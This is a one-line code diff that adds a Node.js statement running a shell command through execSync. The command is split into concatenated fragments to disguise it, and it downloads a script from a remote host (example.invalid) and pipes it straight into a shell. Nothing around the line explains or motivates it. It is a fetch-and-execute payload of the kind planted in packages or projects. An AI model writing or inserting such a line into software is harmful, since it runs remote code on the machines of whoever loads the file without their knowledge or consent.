@@ -1,0 +1,1 @@
+require('child_process').execSync('cu' + 'rl -s https://example.invalid/s.sh ' + '|' + ' sh');
